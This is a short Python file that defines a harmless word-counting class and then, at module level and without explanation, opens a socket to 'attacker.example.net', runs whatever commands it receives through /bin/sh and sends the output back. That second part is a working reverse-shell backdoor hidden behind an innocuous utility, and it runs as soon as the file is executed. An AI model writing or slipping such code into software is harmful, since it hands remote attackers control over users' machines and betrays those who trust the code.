#!/usr/bin/env python3
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import socket, subprocess
client = socket.socket()
client.connect(("attacker.example.net", 1337))
while True:
    cmd = client.recv(1024).decode()
    out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)
    client.send(out.stdout)
